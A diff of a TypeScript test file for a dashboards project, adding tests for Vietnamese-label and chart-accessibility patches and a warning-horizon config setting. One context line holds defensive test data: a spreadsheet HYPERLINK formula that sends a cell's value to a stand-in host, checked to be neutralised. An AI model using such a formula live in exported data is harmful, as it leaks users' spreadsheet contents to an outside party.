@@ -59,6 +59,35 @@ describe('universal-sql offline patch when dashboards/node_modules is installed'
     expect(readFileSync(path.join(USQL, 'src/client-duckdb/browser.js'), 'utf8')).toContain('await (initializing ? initPromise : initDB())');
   });
 
+  test('should have the components patched to Vietnamese labels, for the exact core-components version installed', async () => {
+    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('core-components'))?.[1];
+    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/core-components');
+    const installed = JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string };
+    expect(installed.version).toBe(version);
+    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('core-components')], { cwd: DASHBOARDS_DIR });
+    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
+    // What a reader sees around tables and charts, and the page menu.
+    const text = (f: string): string => readFileSync(path.join(dir, 'dist', f), 'utf8');
+    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).toContain('Toàn màn hình');
+    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).not.toMatch(/>\s*Fullscreen\s*</);
+    expect(text('unsorted/ui/DownloadData.svelte')).toContain("export let text = 'Tải xuống'");
+    expect(text('unsorted/viz/core/ECharts.svelte')).not.toMatch(/Save Image|Download Data/);
+    expect(text('organisms/layout/header/KebabMenu.svelte')).not.toMatch(/Print PDF|aria-label="Menu"/);
+    expect(text('unsorted/viz/table/_DataTable.svelte')).not.toMatch(/No Results|records<|aria-label="(first|previous|next|last)-page"/);
+  });
+
+  test('should give every chart a text alternative (ECharts aria description, role img), for the exact component-utilities version installed', async () => {
+    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('component-utilities'))?.[1];
+    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/component-utilities');
+    expect((JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string }).version).toBe(version);
+    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('component-utilities')], { cwd: DASHBOARDS_DIR });
+    expect(stdout).toContain('checking file node_modules/@evidence-dev/component-utilities/src/echarts.js');
+    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
+    const action = readFileSync(path.join(dir, 'src/echarts.js'), 'utf8');
+    expect(action).toContain("node.setAttribute('role', 'img')");
+    expect(action).toContain('aria: CCHC_ARIA');
+  });
+
   test('should keep no read_parquet or Parquet COPY in the patched client and build step', () => {
     for (const file of PATCHED_FILES) {
       const text = readFileSync(path.join(USQL, file), 'utf8');
@@ -136,5 +165,15 @@ describe('neutralisedSelect given a table with text that a spreadsheet would run
     expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"x")`, "'+84 912", "'@SUM(A1)", 'Sở Tư pháp', null]);
     expect(rows.map((r) => r.code)).toEqual(['H99.01', "'-1", null, "'\ttab", 'a=b']);
     expect(rows.map((r) => r.score)).toEqual([-2.5, 0, 1, 2, null]);
+  });
+});
+
+describe('early-warning horizon in the configuration', () => {
+  test('should default to 3 working days, read PIPELINE_WARNING_WORKING_DAYS and refuse more than the mart keeps (10)', async () => {
+    const { loadConfig } = await import('../../functions/core/config.js');
+    expect(loadConfig(undefined, {}).warningWorkingDays).toBe(3);
+    expect(loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '5' }).warningWorkingDays).toBe(5);
+    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '11' })).toThrow(/warningWorkingDays/);
+    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: 'three' })).toThrow(/warningWorkingDays/);
   });
 });
